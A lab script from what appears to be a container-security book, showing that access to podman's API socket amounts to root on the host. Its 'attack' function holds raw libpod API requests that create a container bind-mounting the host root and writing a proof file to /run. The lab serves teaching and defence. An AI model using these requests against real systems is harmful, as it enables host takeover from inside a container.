#!/bin/sh
# socket.sh: who may speak to the engine is root of the host; podman's service stands in for the engine's daemon.
# book/labs/socket.md shows it and says why. Verbs: stage, look, undo; all three without one.
label=vm-only needs="root cgroup2 podman conmon"
# shellcheck source=book/labs/lab.sh
. "$(dirname "$0")/lab.sh"

export CONTAINERS_CONF="$place/containers.conf" CONTAINERS_STORAGE_CONF="$place/storage.conf"
socket=$place/engine.sock

configure() {
    cat >"$CONTAINERS_CONF" <<END
[engine]
cgroup_manager = "cgroupfs"
events_logger = "none"
lock_type = "file"
tmp_dir = "$place/tmp"
runtime = "boxstep-oci"
[network]
network_config_dir = "$place/networks"
[engine.runtimes]
boxstep-oci = ["$(command -v boxstep-oci)"]
END
    cat >"$CONTAINERS_STORAGE_CONF" <<END
[storage]
driver = "overlay"
graphroot = "$place/storage"
runroot = "$place/run"
[storage.options.overlay]
skip_mount_home = "true"
END
}

# What the container runs: three requests, each of them text.
attack() {
    cat <<'END'
post() {
    printf 'POST /v4.0.0/libpod/containers/%s HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' "$1" "${#2}" "$2" | probe ask /tmp/engine.sock | head -n 1
}
post create '{ "name": "asked-for", "image": "localhost/demo", "netns": { "nsmode": "none" },
    "mounts": [ { "type": "bind", "source": "/", "destination": "/host" } ],
    "command": [ "sh", "-c", "echo written by the container >/host/run/proof" ] }'
post asked-for/start
post asked-for/wait
END
}

stage() {
    [ -e /run/containers ] || touch "$place/new" # podman makes it, and boxstep-oci below podman /run/boxstep
    configure
    attack >"$place/attack"
    try "podman pull -q oci:$image >$place/id && podman tag \$(cat $place/id) localhost/demo"
    background podman system service --time 0 "unix://$socket"
    until_true "[ -S $socket ]"
    try "ls -ln $socket | cut -d ' ' -f 1-4"
    try "cat $place/attack"
}

look() {
    given="--tmpfs /tmp --bind $socket:/tmp/engine.sock:ro --bind $place/attack:/tmp/attack:ro"
    try "step07 --network none --user --map-auto $given --rootfs $rootfs -- sh /tmp/attack"
    try "ls /run/proof"
    try "step07 --network none --cap-drop ALL $given --rootfs $rootfs -- sh /tmp/attack"
    try "ls -ln /run/proof | cut -d ' ' -f 1-4; cat /run/proof"
}

undo() {
    try "podman rm -f asked-for"
    rm -f /run/proof
    end_background
    rmdir /sys/fs/cgroup/libpod_parent/conmon /sys/fs/cgroup/libpod_parent 2>/dev/null
    rmdir /run/boxstep/oci /run/boxstep 2>/dev/null
    [ ! -e "$place/new" ] || rm -rf /run/containers
}

lab "$@"
